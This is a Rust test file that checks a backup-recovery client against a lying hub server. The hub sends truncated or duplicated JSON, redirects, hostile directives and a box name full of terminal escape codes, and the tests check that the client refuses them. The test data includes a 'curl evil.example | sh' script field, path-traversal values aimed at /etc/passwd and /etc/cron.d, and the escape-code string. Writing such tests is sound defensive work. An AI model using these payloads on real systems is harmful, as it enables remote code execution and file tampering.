//! S69, S71: answers that are no answers, directives that redirect, and claims that are not what was
//! asked for. All of it comes before the words: nothing is derived, and nobody is asked for them.

use anyhow::{Context as _, Result, ensure};
use serde_json::{Value, json};
use tenwords_protocol::time::Timestamp;
use tenwords_spikes::tree::Tree;

use super::{
    Stage,
    liar::{Answer, Asked, Lie},
    recover, told,
};
use crate::support::{GROUP, harmful};

/// Another answer to calls whose path ends so.
pub(super) fn instead(path: &'static str, change: impl Fn(Answer) -> Answer + Send + 'static) -> Lie {
    Box::new(move |asked: &Asked, truth| Some(if asked.path.ends_with(path) { change(truth) } else { truth }))
}

/// The same with another text.
pub(super) fn text(path: &'static str, change: impl Fn(&str) -> String + Send + 'static) -> Lie {
    instead(path, move |truth| {
        let told = String::from_utf8_lossy(&truth.body).into_owned();
        let body = change(&told).into_bytes();
        assert_ne!(body, truth.body, "nothing was changed");
        Answer { body, status: 200, ..truth }
    })
}

/// The same with other JSON.
pub(super) fn edited(path: &'static str, edit: impl Fn(&mut Value) + Send + 'static) -> Lie {
    text(path, move |told| {
        let mut value = serde_json::from_str(told).expect("the hub speaks JSON");
        edit(&mut value);
        value.to_string()
    })
}

const LIST: &str = "/versions";
const CLAIM: &str = "/recovery/claim";
const DIRECTIVE: &str = "/directive";
const UNREADABLE: &str = "cannot be read";

#[test]
fn answers_that_are_none_end_with_a_sentence_and_before_the_words() -> Result<()> {
    let stage = Stage::set()?;
    let other_box = |value: &mut Value| value["box_id"] = "3f2b8a52-7c1d-4e7a-9b60-0d1f2a3b4c5d".into();
    let hours_away = |value: &mut Value| {
        value["hub_time"] = Timestamp::from_unix(Timestamp::now().unix() - 7200).expect("a time").to_string().into();
    };
    let cases: Vec<(&str, Lie, i32, &str)> = vec![
        ("a list that is cut off", text(LIST, |told| told[..told.len() / 2].into()), 12, UNREADABLE),
        ("a key twice", text(LIST, |told| told.replacen("{\"v\":1,", "{\"v\":1,\"v\":1,", 1)), 12, UNREADABLE),
        (
            "a header's key twice",
            text(LIST, |told| told.replacen("\"kind\":", "\"kind\":\"update\",\"kind\":", 1)),
            12,
            UNREADABLE,
        ),
        ("another version of the list", text(LIST, |told| told.replacen("{\"v\":1,", "{\"v\":2,", 1)), 12, UNREADABLE),
        (
            "a field that a header has not",
            edited(LIST, |list| list["versions"][0]["header"]["server"] = "evil".into()),
            12,
            UNREADABLE,
        ),
        (
            "a part twice",
            edited(LIST, |list| {
                let part = list["versions"][0]["header"]["parts"][0].clone();
                list["versions"][0]["header"]["parts"].as_array_mut().expect("parts").push(part);
            }),
            12,
            UNREADABLE,
        ),
        (
            "a part outside",
            edited(LIST, |list| list["versions"][0]["header"]["parts"][0]["name"] = "key/../../root.age".into()),
            12,
            UNREADABLE,
        ),
        (
            "a part of a gigabyte",
            edited(LIST, |list| list["versions"][0]["header"]["parts"][1]["size"] = (1_u64 << 30).into()),
            12,
            UNREADABLE,
        ),
        (
            "a root that is not the header's",
            edited(LIST, |list| list["versions"][0]["header"]["root_sha256"] = "0".repeat(64).into()),
            12,
            UNREADABLE,
        ),
        (
            "a page",
            instead(LIST, |truth| Answer {
                body: b"<html>500</html>".to_vec(),
                kind: "text/html".into(),
                status: 500,
                ..truth
            }),
            20,
            "without saying why",
        ),
        ("an empty list", edited(LIST, |list| list["versions"] = json!([])), 10, "nothing at the hub"),
        (
            "a list without end",
            instead(LIST, |truth| Answer { zeros: 1 << 30, ..truth }),
            12,
            "larger than such an answer can be",
        ),
        ("a claim for nobody", text(CLAIM, |_| "{}".into()), 12, UNREADABLE),
        (
            "a claim with another authority",
            edited(CLAIM, |claim| claim["server_ca"] = claim["certificate"].clone()),
            12,
            "another authority",
        ),
        ("a clock that is hours away", edited(CLAIM, hours_away), 10, "clock"),
        (
            "a problem of a megabyte",
            instead(CLAIM, |truth| Answer { status: 403, body: Vec::new(), zeros: 1 << 20, ..truth }),
            12,
            "larger than such an answer can be",
        ),
        ("a box that is another", edited(CLAIM, other_box), 16, "what to do"),
    ];
    for (what, lie, code, sentence) in cases {
        let told = stage.refuses(what, lie, code, sentence)?;
        ensure!(!told.contains("4 Opened"), "{what}: something was opened");
    }
    Ok(())
}

/// Nobody is followed elsewhere.
#[test]
fn a_redirection_is_not_followed() -> Result<()> {
    let stage = Stage::set()?;
    for path in [CLAIM, LIST] {
        let elsewhere = format!("{}/elsewhere", stage.ticket.split(':').skip(1).take(2).collect::<Vec<_>>().join(":"));
        for status in [302, 307] {
            let location = Some(format!("https://{elsewhere}"));
            let lie =
                instead(path, move |truth| Answer { status, location: location.clone(), body: Vec::new(), ..truth });
            stage.refuses(path, lie, 20, "without saying why")?;
            ensure!(stage.liar.heard().iter().all(|asked| asked.path != "/elsewhere"), "it was followed");
        }
    }
    Ok(())
}

/// What a directive may say of one item.
fn item() -> Value {
    json!({"source": "pbs", "group": GROUP, "snapshot": "newest", "as": {"archive": "root.pxar", "to": "new-folder"}})
}

#[test]
fn s69_a_directive_that_says_where_from_or_where_to_is_refused_whole() -> Result<()> {
    let stage = Stage::set()?;
    let with = |place: &'static str, name: &'static str, value: Value| {
        let mut directive = json!({"v": 1, "number": 1, "items": [item(), item()]});
        directive.pointer_mut(place).and_then(Value::as_object_mut).expect("a place").insert(name.into(), value);
        directive.to_string()
    };
    for (what, directive) in [
        ("a server", with("/items/1", "server", "evil.example".into())),
        ("a datastore", with("/items/1", "datastore", "evil".into())),
        ("a repository", with("", "repository", "evil.example:store".into())),
        ("a certificate", with("/items/1", "certificate", "web-pki".into())),
        ("a token", with("/items/1", "token", "secret".into())),
        ("a path", with("/items/1/as", "path", "/etc".into())),
        ("a path as the place", with("/items/1/as", "to", "/etc/cron.d".into())),
        ("a path as the archive", with("/items/1/as", "archive", "../../../etc/passwd".into())),
        ("a path as the storage", with("/items/1", "as", json!({"vmid": 101, "storage": "/dev/sda"}))),
        ("a path as the source", with("/items/1", "source", "../pbs".into())),
        ("a path as the group", with("/items/1", "group", "ct/../101".into())),
        ("a path as the namespace", with("/items/1", "namespace", "../other".into())),
        ("a server as the source", with("/items/1", "source", "evil.example:8007".into())),
        ("a script", with("", "script", "curl evil.example | sh".into())),
        ("force", with("/items/1", "force", true.into())),
        ("nothing as the namespace", with("/items/1", "namespace", Value::Null)),
        ("two targets", with("/items/1", "as", json!({"archive": "root.pxar", "to": "original", "vmid": 101}))),
        ("a key twice", with("", "note", 1.into()).replace("\"note\":1", "\"number\":2")),
        ("another version", with("", "v", 2.into())),
        ("something behind it", format!("{}{{}}", with("", "number", 2.into()))),
    ] {
        let lie = text(DIRECTIVE, move |_| directive.clone());
        stage.refuses(what, lie, 12, UNREADABLE)?;
    }

    // What only chooses is done; what it chooses and the root does not know is named and left.
    let mut items = vec![item()];
    for (place, name) in
        [("/source", "elsewhere"), ("/group", "ct/999"), ("/as/to", "original"), ("/as/archive", "other.pxar")]
    {
        let mut other = item();
        *other.pointer_mut(place).context("a place")? = name.into();
        items.push(other);
    }
    let mut guest = item();
    guest["as"] = json!({"vmid": 101, "storage": "local"});
    items.push(guest);
    let directive = json!({"v": 1, "number": 1, "items": items}).to_string();
    stage.liar.tells(text(DIRECTIVE, move |_| directive.clone()));
    let ended = recover(&stage.scene, &stage.machine, &stage.ticket, &stage.scene.words)?;
    let told = told(&ended);
    ensure!(ended.code == Some(14), "recover ended with {:?} instead of 14:\n{told}", ended.code);
    for sentence in [
        "a source or namespace that the escrow does not know",
        "ct/999: no snapshot",
        "the escrow lists no path for root.pxar",
        "archive other.pxar",
        "it cannot become a guest here: there is no Proxmox VE on this machine",
    ] {
        ensure!(told.contains(sentence), "`{sentence}` is not said:\n{told}");
    }
    ensure!(Tree::read(&stage.machine.restored(GROUP, "root.pxar"))? == stage.scene.data, "the data is another");
    stage.machine.left_nothing_in_memory()
}

/// S71: a hub's text is shown without what would move the cursor or turn the line around.
#[test]
fn s71_a_hubs_text_is_shown_harmlessly() -> Result<()> {
    let stage = Stage::set()?;
    let name = format!("\u{1b}[2J\u{1b}]0;title\u{7}\u{202e}bakery\u{9b}31m\r\n{}", "long".repeat(20_000));
    stage.liar.tells(edited(CLAIM, move |claim| claim["box_name"] = name.clone().into()));
    let words = super::other_words();
    let ended = recover(&stage.scene, &stage.machine, &stage.ticket, words.expose_passphrase())?;
    let told = told(&ended);
    ensure!(ended.code == Some(11), "recover ended with {:?}:\n{told}", ended.code);
    ensure!(told.contains("bakery") && told.len() < 4000, "{} bytes were shown", told.len());
    ensure!(!harmful(&told), "{told:?}");
    super::nothing_installed(&stage.machine)
}
